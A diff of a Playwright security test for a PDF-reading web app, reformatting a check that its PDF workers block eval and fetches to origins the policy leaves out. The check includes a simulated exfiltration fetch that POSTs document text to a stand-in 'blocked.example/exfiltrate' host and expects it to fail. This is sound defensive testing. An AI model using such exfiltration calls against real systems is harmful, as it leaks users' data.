@@ -1,9 +1,9 @@
 import net from "node:net";
-import path from "node:path";
 import { expect, test, type Page, type Worker } from "@playwright/test";
-import { dropFile, SHARED, trackPageErrors, waitForIngest } from "./fixtures";
+import { dropFile, trackPageErrors, waitForIngest } from "./fixtures";
+import { sharedFixture } from "../src/testing/shared-fixtures";
 
-const TRACEMONKEY = path.join(SHARED, "pdfs", "ok", "tracemonkey.pdf");
+const TRACEMONKEY = sharedFixture("pdfs/ok/tracemonkey.pdf");
 const BLOCKED = "https://blocked.example";
 const ALLOWED = "https://api.openai.com";
 
@@ -51,62 +51,65 @@ test("every response carries the security headers: the page, worker scripts, ass
   expect(errors).toEqual([]);
 });
 
-test("inside the workers that parse PDFs, string-eval is blocked and so is a fetch to an origin the policy leaves out", async ({
-  page,
-  context,
-}) => {
-  const reached: string[] = [];
-  for (const origin of [BLOCKED, ALLOWED]) {
-    await context.route(
-      `${origin}/**`,
-      (route) => (reached.push(route.request().url()), route.fulfill({ status: 200, body: "reached" })),
+test(
+  "inside the workers that parse PDFs, string-eval is blocked and so is a fetch to an origin the policy leaves " +
+    "out",
+  async ({ page, context }) => {
+    const reached: string[] = [];
+    for (const origin of [BLOCKED, ALLOWED]) {
+      await context.route(
+        `${origin}/**`,
+        (route) => (reached.push(route.request().url()), route.fulfill({ status: 200, body: "reached" })),
+      );
+    }
+    const workers = await openWithWorkers(page);
+    for (const w of workers) {
+      const outcome = await w.evaluate(
+        async ([blocked, allowed]) => {
+          // Run on a later task: DevTools lets code evaluated by the test itself eval freely.
+          const attempt = (fn: () => unknown) =>
+            new Promise<string>((resolve) =>
+              setTimeout(async () => {
+                try {
+                  resolve(String(await fn()));
+                } catch (e) {
+                  resolve((e as Error).name);
+                }
+              }),
+            );
+          return {
+            eval: await attempt(() => (0, eval)("6 * 7")),
+            newFunction: await attempt(() => new Function("return 6 * 7")()),
+            blocked: await attempt(
+              async () => (await fetch(`${blocked}/exfiltrate`, { method: "POST", body: "document text" })).status,
+            ),
+            // Control: the same fetch to an allowed origin is answered, so the failure above is the
+            // policy, not the network.
+            allowed: await attempt(async () => (await fetch(`${allowed}/v1/models`)).status),
+          };
+        },
+        [BLOCKED, ALLOWED],
+      );
+      // The workers that parse or draw PDFs reach no server but the app's own, not even an allowed model API.
+      const parsesPdfs = /(layout-worker|painter-worker|pdf\.worker|pdf\.renderer)[^/]*$/.test(
+        new URL(w.url()).pathname,
+      );
+      expect(outcome, w.url()).toEqual({
+        eval: "EvalError",
+        newFunction: "EvalError",
+        blocked: "TypeError",
+        allowed: parsesPdfs ? "TypeError" : "200",
+      });
+    }
+    expect(workers.some((w) => /painter-worker/.test(w.url()))).toBe(true);
+    expect(reached.filter((u) => u.startsWith(BLOCKED))).toEqual([]);
+    // Only the reading worker (model calls) reached the allowed origin: so route interception works in workers.
+    expect(reached.filter((u) => u.startsWith(ALLOWED)).length).toBe(
+      workers.filter((w) => /reading-worker/.test(w.url())).length,
     );
-  }
-  const workers = await openWithWorkers(page);
-  for (const w of workers) {
-    const outcome = await w.evaluate(
-      async ([blocked, allowed]) => {
-        // Run on a later task: DevTools lets code evaluated by the test itself eval freely.
-        const attempt = (fn: () => unknown) =>
-          new Promise<string>((resolve) =>
-            setTimeout(async () => {
-              try {
-                resolve(String(await fn()));
-              } catch (e) {
-                resolve((e as Error).name);
-              }
-            }),
-          );
-        return {
-          eval: await attempt(() => (0, eval)("6 * 7")),
-          newFunction: await attempt(() => new Function("return 6 * 7")()),
-          blocked: await attempt(
-            async () => (await fetch(`${blocked}/exfiltrate`, { method: "POST", body: "document text" })).status,
-          ),
-          // Control: the same fetch to an allowed origin is answered, so the failure above is the
-          // policy, not the network.
-          allowed: await attempt(async () => (await fetch(`${allowed}/v1/models`)).status),
-        };
-      },
-      [BLOCKED, ALLOWED],
-    );
-    // The workers that parse or draw PDFs reach no server but the app's own, not even an allowed model API.
-    const parsesPdfs = /(layout-worker|painter-worker|pdf\.worker|pdf\.renderer)[^/]*$/.test(new URL(w.url()).pathname);
-    expect(outcome, w.url()).toEqual({
-      eval: "EvalError",
-      newFunction: "EvalError",
-      blocked: "TypeError",
-      allowed: parsesPdfs ? "TypeError" : "200",
-    });
-  }
-  expect(workers.some((w) => /painter-worker/.test(w.url()))).toBe(true);
-  expect(reached.filter((u) => u.startsWith(BLOCKED))).toEqual([]);
-  // Only the reading worker (model calls) reached the allowed origin: so route interception works in workers.
-  expect(reached.filter((u) => u.startsWith(ALLOWED)).length).toBe(
-    workers.filter((w) => /reading-worker/.test(w.url())).length,
-  );
-  expect(reached.length).toBeGreaterThan(0);
-});
+    expect(reached.length).toBeGreaterThan(0);
+  },
+);
 
 test("no page can frame the app, not even one of its own origin", async ({ page }) => {
   // frame-ancestors 'none' refuses every parent. A parent on the app's own origin is the
